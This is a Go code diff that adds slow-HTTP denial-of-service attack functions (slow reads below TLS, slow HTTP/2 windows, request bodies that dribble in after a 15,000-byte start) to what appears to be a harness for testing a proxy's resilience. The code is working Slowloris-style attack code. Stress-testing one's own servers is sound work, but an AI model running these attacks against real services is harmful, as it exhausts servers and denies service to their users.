@@ -7,6 +7,7 @@ import (
 	"fmt"
 	"io"
 	"net"
+	"strings"
 	"sync"
 	"time"
 
@@ -41,11 +42,14 @@ var clientAttacks = map[string]func(context.Context, *attackers){
 	"unread-responses-https": unreadResponses(secure, rotatingHost),
 	"unread-responses-h2":    h2UnreadResponses,
 	"slow-reading":           slowReading,
+	"slow-reading-https":     slowReadingHTTPS,
+	"slow-windows-h2":        slowWindowsH2,
 	"slow-heads":             slowHeads(plain, guardedHost),
 	"slow-heads-https":       slowHeads(secure, rotatingHost),
 	"hidden-heads":           hiddenHeads,
 	"slow-bodies":            slowBodies(plain, guardedHost),
 	"slow-bodies-https":      slowBodies(secure, rotatingHost),
+	"late-bodies-https":      lateBodies,
 	"pod-pages":              podPages,
 	"h2-resets":              h2Resets,
 	"h2-control":             h2ControlFrames,
@@ -216,6 +220,27 @@ func slowReading(ctx context.Context, a *attackers) {
 	}
 }
 
+// A kilobyte every five seconds of a large response over HTTPS. It is read below TLS, which would take a record of 16 KiB at once.
+func slowReadingHTTPS(ctx context.Context, a *attackers) {
+	a.held(ctx, 140, func() {
+		c, err := secure(ctx, a)
+		if err != nil {
+			return
+		}
+		defer c.Close()
+		raw := tcpOf(c)
+		_ = raw.SetReadBuffer(4096)
+		fmt.Fprintf(c, "GET /large HTTP/1.1\r\nHost: %s\r\n\r\n", rotatingHost)
+		piece := make([]byte, 1024)
+		for ctx.Err() == nil {
+			pause(ctx, 5*time.Second)
+			if _, err := io.ReadFull(raw, piece); err != nil {
+				return
+			}
+		}
+	})
+}
+
 func slowHeads(connect connector, host string) func(context.Context, *attackers) {
 	return func(ctx context.Context, a *attackers) {
 		a.held(ctx, 200, func() { a.drip(ctx, connect, fmt.Sprintf("GET / HTTP/1.1\r\nHost: %s\r\nX-Slow: ", host)) })
@@ -234,6 +259,12 @@ func slowBodies(connect connector, host string) func(context.Context, *attackers
 			a.drip(ctx, connect, fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n", host))
 		})
 	}
+}
+
+// Bodies that begin with as much as HAProxy waits for, and drip from then on.
+func lateBodies(ctx context.Context, a *attackers) {
+	begun := fmt.Sprintf("POST / HTTP/1.1\r\nHost: %s\r\nContent-Length: 1000000\r\n\r\n", rotatingHost) + strings.Repeat("x", 15000)
+	a.held(ctx, 140, func() { a.drip(ctx, secure, begun) })
 }
 
 // drip sends the beginning of a request, then a byte a second.
